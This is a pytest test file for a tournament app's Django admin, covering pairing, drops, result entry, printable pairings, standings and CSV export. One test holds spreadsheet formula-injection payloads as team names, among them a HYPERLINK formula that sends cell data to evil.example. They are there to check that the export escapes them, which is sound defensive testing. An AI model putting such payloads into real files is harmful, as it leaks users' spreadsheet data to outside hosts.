"""Running an event from the admin: pairing, drops, swaps, results, printable pages and CSV."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import EventFactory, OrganizerFactory, RegistrationFactory
from tournaments.enums import Outcome, ResultState
from tournaments.models import Round, TeamMatch
from tournaments.services.pairing import round_pair_next
from tournaments.services.results import SeatGames, team_match_record_final

pytestmark = pytest.mark.django_db


@pytest.fixture
def organizer(client):
    user = OrganizerFactory()
    client.force_login(user)
    return user


def _event(teams=4, **kwargs):
    event = EventFactory(**kwargs)
    registrations = [RegistrationFactory(event=event) for _ in range(teams)]
    return event, registrations


def _action(client, model, action, ids):
    return client.post(
        reverse(f"admin:tournaments_{model}_changelist"), {"action": action, "_selected_action": ids}, follow=True
    )


def test_admin_pair_next_round_action_pairs_and_says_so(client, organizer):
    event, _ = _event()
    response = _action(client, "event", "pair_next_round", [event.pk])
    assert "round 1 paired" in response.content.decode()
    assert Round.objects.filter(event=event, number=1).exists()


def test_admin_pair_next_round_refused_shows_the_reason(client, organizer):
    event, _ = _event()
    round_pair_next(event=event, seed=1)
    response = _action(client, "event", "pair_next_round", [event.pk])
    assert "Round 1 still waits for results at table(s) 1, 2" in response.content.decode()
    assert Round.objects.filter(event=event).count() == 1


def test_admin_printable_pairings_lists_tables_and_teams_alphabetically(client, organizer):
    event, registrations = _event(teams=5)
    round_pair_next(event=event, seed=3)
    page = client.get(reverse("admin:tournaments_event_pairings", args=[event.pk])).content.decode()
    for registration in registrations:
        assert registration.team.name in page
    assert "Bye" in page
    by_team = page[page.index("By team") :]
    names = sorted(r.team.name for r in registrations)
    positions = [by_team.index(f"<tr><td>{name}</td>") for name in names]
    assert positions == sorted(positions)


def test_admin_standings_page_and_csv_show_every_figure(client, organizer):
    event, _ = _event()
    round_ = round_pair_next(event=event, seed=3)
    for match in round_.matches.all():
        team_match_record_final(
            match=match, user=organizer, seats=[SeatGames("A", 2, 0), SeatGames("B", 2, 0), SeatGames("C", 0, 2)]
        )
    page = client.get(reverse("admin:tournaments_event_standings", args=[event.pk])).content.decode()
    assert "1.0000" in page and "0.3300" in page and "3 / (3 x 1)" in page
    response = client.get(reverse("admin:tournaments_event_standings_csv", args=[event.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == [
        "rank",
        "team",
        "match_points",
        "record",
        "byes",
        "mw",
        "omw",
        "gw",
        "ogw",
        "decided_by",
        "dropped",
        "did_not_advance",
        "email",
    ]
    assert [r[2] for r in rows[1:]] == ["3", "3", "0", "0"]
    assert rows[1][5] == "1.0000" and rows[3][5] == "0.3300"


def test_admin_swap_view_warns_about_a_rematch(client, organizer):
    event, _ = _event()
    round1 = round_pair_next(event=event, seed=1)
    first = round1.matches.order_by("table").first()
    for match in round1.matches.all():
        team_match_record_final(
            match=match, user=organizer, seats=[SeatGames("A", 2, 0), SeatGames("B", 2, 0), SeatGames("C", 0, 2)]
        )
    round2 = round_pair_next(event=event, seed=2)
    partner = round2.matches.filter(team_a=first.team_a).first() or round2.matches.get(team_b=first.team_a)
    other = partner.team_b if partner.team_a_id == first.team_a_id else partner.team_a
    response = client.post(
        reverse("admin:tournaments_round_swap", args=[round2.pk]),
        {"first": other.pk, "second": first.team_b_id},
        follow=True,
    )
    assert "have already played each other" in response.content.decode()


def test_admin_drop_action_drops_after_the_latest_round_once_it_has_started(client, organizer):
    event, registrations = _event()
    round_ = round_pair_next(event=event, seed=1)
    team_match_record_final(
        match=round_.matches.first(),
        user=organizer,
        seats=[SeatGames("A", 2, 0), SeatGames("B", 2, 0), SeatGames("C", 0, 2)],
    )
    _action(client, "registration", "drop_teams", [registrations[0].pk])
    registrations[0].refresh_from_db()
    assert registrations[0].dropped_round == 1


def test_admin_result_entry_is_final_and_scored(client, organizer):
    event, _ = _event(teams=2)
    match = round_pair_next(event=event, seed=1).matches.get()
    data = {
        "round": match.round_id,
        "table": match.table,
        "team_a": match.team_a_id,
        "team_b": match.team_b_id,
        "games_won_a": 0,
        "games_won_b": 0,
        "games_drawn": 0,
        "seat_matches-TOTAL_FORMS": 3,
        "seat_matches-INITIAL_FORMS": 0,
        "seat_matches-MIN_NUM_FORMS": 0,
        "seat_matches-MAX_NUM_FORMS": 1000,
    }
    for i, (letter, a, b) in enumerate([("A", 0, 2), ("B", 1, 2), ("C", 2, 0)]):
        data.update(
            {
                f"seat_matches-{i}-letter": letter,
                f"seat_matches-{i}-wins_a": a,
                f"seat_matches-{i}-wins_b": b,
                f"seat_matches-{i}-draws": 0,
            }
        )
    response = client.post(reverse("admin:tournaments_teammatch_change", args=[match.pk]), data)
    assert response.status_code == 302
    match.refresh_from_db()
    assert (match.outcome, match.result_state, match.confirmed_by) == (Outcome.B_WINS, ResultState.FINAL, organizer)


def test_admin_result_entry_impossible_games_shows_the_seat(client, organizer):
    event, _ = _event(teams=2)
    match = round_pair_next(event=event, seed=1).matches.get()
    data = {
        "round": match.round_id,
        "table": match.table,
        "team_a": match.team_a_id,
        "team_b": match.team_b_id,
        "games_won_a": 0,
        "games_won_b": 0,
        "games_drawn": 0,
        "seat_matches-TOTAL_FORMS": 3,
        "seat_matches-INITIAL_FORMS": 0,
        "seat_matches-MIN_NUM_FORMS": 0,
        "seat_matches-MAX_NUM_FORMS": 1000,
    }
    for i, (letter, a, b) in enumerate([("A", 2, 2), ("B", 1, 2), ("C", 2, 0)]):
        data.update(
            {
                f"seat_matches-{i}-letter": letter,
                f"seat_matches-{i}-wins_a": a,
                f"seat_matches-{i}-wins_b": b,
                f"seat_matches-{i}-draws": 0,
            }
        )
    response = client.post(reverse("admin:tournaments_teammatch_change", args=[match.pk]), data)
    assert response.status_code == 200
    assert "Seat A: 2-2 can" in response.content.decode()
    assert TeamMatch.objects.get(pk=match.pk).result_state == ResultState.PENDING


def test_admin_decklist_status_and_printable_decklists(client, organizer, _bundled_cards):
    from cards.services import cards_ensure_loaded
    from tournaments.services.decklists import decklist_submit

    cards_ensure_loaded()
    event, registrations = _event(teams=1, team_size=2)
    seat = registrations[0].seats.get(letter="A")
    decklist_submit(seat=seat, user=seat.player.user, text="4 Blitzschlag\n56 Mountain")
    listing = client.get(reverse("admin:tournaments_registration_changelist")).content.decode()
    assert "1/2 submitted, 1 problem(s)" in listing
    page = client.get(reverse("admin:tournaments_event_decklists", args=[event.pk])).content.decode()
    assert "Lightning Bolt" in page and "has not submitted a decklist" in page


def test_admin_drop_while_the_latest_round_has_not_started_then_pair_again_leaves_the_team_out(client, organizer):
    event, registrations = _event(teams=5)
    round_ = round_pair_next(event=event, seed=1)
    _action(client, "registration", "drop_teams", [registrations[0].pk])
    registrations[0].refresh_from_db()
    assert registrations[0].dropped_round == 0
    response = _action(client, "round", "pair_again", [round_.pk])
    assert "paired again" in response.content.decode()
    teams = {t for pair in round_.matches.values_list("team_a_id", "team_b_id") for t in pair if t}
    assert teams == {r.pk for r in registrations[1:]}


def test_admin_reinstate_action_pairs_the_team_again(client, organizer):
    event, registrations = _event(teams=4)
    round_ = round_pair_next(event=event, seed=1)
    _action(client, "registration", "drop_teams", [registrations[0].pk])
    _action(client, "round", "pair_again", [round_.pk])
    assert round_.matches.count() == 2  # three teams: one match and the bye
    response = _action(client, "registration", "reinstate_teams", [registrations[0].pk])
    assert "reinstated" in response.content.decode()
    registrations[0].refresh_from_db()
    assert registrations[0].dropped_round is None
    _action(client, "round", "pair_again", [round_.pk])
    teams = {t for pair in round_.matches.values_list("team_a_id", "team_b_id") for t in pair if t}
    assert teams == {r.pk for r in registrations}


def _match_post(round_id, table, team_a, team_b, seats=()):
    data = {
        "round": round_id or "",
        "table": table,
        "team_a": team_a.pk if team_a else "",
        "team_b": team_b.pk if team_b else "",
        "games_won_a": 0,
        "games_won_b": 0,
        "games_drawn": 0,
        "seat_matches-TOTAL_FORMS": len(seats),
        "seat_matches-INITIAL_FORMS": 0,
        "seat_matches-MIN_NUM_FORMS": 0,
        "seat_matches-MAX_NUM_FORMS": 1000,
    }
    for i, (letter, a, b) in enumerate(seats):
        data.update(
            {
                f"seat_matches-{i}-letter": letter,
                f"seat_matches-{i}-wins_a": a,
                f"seat_matches-{i}-wins_b": b,
                f"seat_matches-{i}-draws": 0,
            }
        )
    return data


def test_admin_add_a_bye_by_hand_is_a_final_win(client, organizer):
    event, registrations = _event(teams=3)
    round_ = Round.objects.create(event=event, number=1)
    response = client.post(
        reverse("admin:tournaments_teammatch_add"), _match_post(round_.pk, 2, registrations[0], None)
    )
    assert response.status_code == 302
    match = TeamMatch.objects.get(round=round_)
    assert (match.team_b, match.outcome, match.result_state) == (None, Outcome.A_WINS, ResultState.FINAL)


def test_admin_add_a_match_without_a_round_says_so(client, organizer):
    event, registrations = _event(teams=2)
    response = client.post(
        reverse("admin:tournaments_teammatch_add"),
        _match_post(None, 1, registrations[0], registrations[1], seats=[("A", 2, 0), ("B", 2, 0), ("C", 0, 2)]),
    )
    assert response.status_code == 200
    assert "This field is required." in response.content.decode()
    assert TeamMatch.objects.count() == 0


def test_admin_add_a_match_with_a_team_of_another_event_says_so(client, organizer):
    event, registrations = _event(teams=1)
    stranger = RegistrationFactory()
    round_ = Round.objects.create(event=event, number=1)
    response = client.post(
        reverse("admin:tournaments_teammatch_add"), _match_post(round_.pk, 1, registrations[0], stranger)
    )
    assert response.status_code == 200
    assert f"{stranger.team.name} is not registered for {event.name}." in response.content.decode()
    assert TeamMatch.objects.count() == 0


def test_admin_add_a_bye_in_the_round_page_inline_is_a_final_win(client, organizer):
    event, registrations = _event(teams=1)
    round_ = Round.objects.create(event=event, number=1)
    data = {
        "event": event.pk,
        "number": 1,
        "kind": "swiss",
        "seed": 0,
        "matches-TOTAL_FORMS": 1,
        "matches-INITIAL_FORMS": 0,
        "matches-MIN_NUM_FORMS": 0,
        "matches-MAX_NUM_FORMS": 1000,
        "matches-0-table": 1,
        "matches-0-team_a": registrations[0].pk,
        "matches-0-team_b": "",
        "matches-0-round": round_.pk,
    }
    response = client.post(reverse("admin:tournaments_round_change", args=[round_.pk]), data)
    assert response.status_code == 302
    match = TeamMatch.objects.get(round=round_)
    assert (match.outcome, match.result_state) == (Outcome.A_WINS, ResultState.FINAL)


def _bolts_team(event_kwargs=None):
    from cards.services import cards_ensure_loaded
    from tournaments.services.decklists import decklist_submit

    cards_ensure_loaded()
    event, registrations = _event(teams=1, team_size=2, **(event_kwargs or {}))
    for letter, fill in (("A", "Mountain"), ("B", "Island")):
        seat = registrations[0].seats.get(letter=letter)
        decklist_submit(seat=seat, user=seat.player.user, text=f"2 Lightning Bolt\n58 {fill}")
    registrations[0].refresh_from_db()
    assert registrations[0].deck_problems == []
    return event, registrations[0]


def test_admin_recheck_decklists_action(client, organizer, _bundled_cards):
    event, registration = _bolts_team()
    event.extra_banned = "Lightning Bolt"
    event.save()
    response = _action(client, "event", "recheck_decklists", [event.pk])
    assert "decklists of 1 team checked again" in response.content.decode()
    registration.refresh_from_db()
    assert registration.deck_problems


def test_admin_deck_rule_change_rechecks_decklists(client, organizer, _bundled_cards):
    from tests.tournaments.test_admin import _event_post

    event, registration = _bolts_team()
    response = client.post(
        reverse("admin:tournaments_event_change", args=[event.pk]),
        _event_post(event, deck_rule="no-shared"),
        follow=True,
    )
    assert "Decklists of 1 team checked again under the new settings." in response.content.decode()
    registration.refresh_from_db()
    assert any(p["card"] == "Lightning Bolt" for p in registration.deck_problems)


def test_admin_printable_pairings_by_table_are_in_table_order(client, organizer):
    event, _ = _event(teams=9)
    round_ = round_pair_next(event=event, seed=3)
    page = client.get(reverse("admin:tournaments_event_pairings", args=[event.pk])).content.decode()
    by_table = page[page.index("By table") : page.index("By team")]
    tables = sorted(round_.matches.filter(team_b__isnull=False).values_list("table", flat=True))
    assert tables == [1, 2, 3, 4]  # the bye is at no table
    positions = [by_table.index(f"<tr><td>{table}</td>") for table in tables]
    assert positions == sorted(positions)


@pytest.mark.parametrize("bad", ["²", "-1", "x", "1" * 40, " 1 1"])
def test_admin_printable_pairings_with_a_bad_round_number_shows_the_latest_round(client, organizer, bad):
    event, registrations = _event(teams=4)
    round_pair_next(event=event, seed=3)
    response = client.get(reverse("admin:tournaments_event_pairings", args=[event.pk]), {"round": bad})
    assert response.status_code == 200
    assert registrations[0].team.name in response.content.decode()


def test_admin_standings_csv_escapes_team_names_a_spreadsheet_would_run_as_formulas(client, organizer):
    # Defect 7 (issue 19): a team named =HYPERLINK(...) became a live formula in the organizer's spreadsheet.
    event, registrations = _event()
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    for registration, name in zip(registrations, evil):
        registration.team.name = name
        registration.team.save()
    response = client.get(reverse("admin:tournaments_event_standings_csv", args=[event.pk]))
    teams = [row[1] for row in list(csv.reader(io.StringIO(response.content.decode())))[1:]]
    assert sorted(teams) == sorted("'" + name for name in evil)
    assert all(team.startswith("'") for team in teams)


def test_admin_standings_name_the_opponents_and_mark_dropped_teams(client, organizer):
    event, registrations = _event()
    round_ = round_pair_next(event=event, seed=3)
    for match in round_.matches.all():
        team_match_record_final(
            match=match, user=organizer, seats=[SeatGames("A", 2, 0), SeatGames("B", 2, 0), SeatGames("C", 0, 2)]
        )
    registrations[0].dropped_round = 1
    registrations[0].save()
    page = client.get(reverse("admin:tournaments_event_standings", args=[event.pk])).content.decode()
    opponent = (
        TeamMatch.objects.get(round=round_, team_a=registrations[0])
        if TeamMatch.objects.filter(round=round_, team_a=registrations[0]).exists()
        else TeamMatch.objects.get(round=round_, team_b=registrations[0])
    )
    other = opponent.team_b if opponent.team_a_id == registrations[0].pk else opponent.team_a
    assert f"average of {other.team.name}: " in page
    assert "#%d:" % other.pk not in page and "[#" not in page
    row = page[page.index(f"<td>{registrations[0].team.name}") :]
    assert row[: row.index("</td>")].endswith("(dropped after round 1)</span>")


def test_admin_standings_in_german_translate_the_explanations(client, organizer):
    event, _ = _event()
    page = client.get(
        reverse("admin:tournaments_event_standings", args=[event.pk]), HTTP_ACCEPT_LANGUAGE="de"
    ).content.decode()
    assert "nothing played" not in page and "no opponents" not in page


def test_admin_printable_pairings_give_the_bye_no_table_number(client, organizer):
    event, registrations = _event(teams=5)
    round_ = round_pair_next(event=event, seed=3)
    bye = round_.matches.get(team_b__isnull=True)
    page = client.get(reverse("admin:tournaments_event_pairings", args=[event.pk])).content.decode()
    by_table = page[page.index("By table") : page.index("By team")]
    assert f"<tr><td>—</td><td>{bye.team_a.team.name}</td>" in by_table
    by_team = page[page.index("By team") :]
    assert f"<tr><td>{bye.team_a.team.name}</td><td>—</td>" in by_team


def test_admin_team_match_form_shows_seat_letters_and_players_and_what_saving_does(client, organizer):
    event, registrations = _event()
    round_ = round_pair_next(event=event, seed=3)
    match = round_.matches.filter(team_b__isnull=False).first()
    page = client.get(reverse("admin:tournaments_teammatch_change", args=[match.pk])).content.decode()
    for k, _letter in enumerate("ABC"):
        assert f'name="seat_matches-{k}-letter"' in page
    assert page.count('value="A" selected') + page.count('<option value="A" selected>') >= 1
    assert 'name="games_won_a"' not in page and 'name="games_drawn"' not in page
    assert "counts in the standings at once" in page


def test_admin_team_match_seat_line_names_both_players(client, organizer):
    event, registrations = _event()
    round_ = round_pair_next(event=event, seed=3)
    match = round_.matches.filter(team_b__isnull=False).first()
    team_match_record_final(
        match=match, user=organizer, seats=[SeatGames("A", 2, 0), SeatGames("B", 2, 0), SeatGames("C", 0, 2)]
    )
    page = client.get(reverse("admin:tournaments_teammatch_change", args=[match.pk])).content.decode()
    a = match.team_a.seats.get(letter="A").player.name
    b = match.team_b.seats.get(letter="A").player.name
    assert f"{a} against {b}" in page
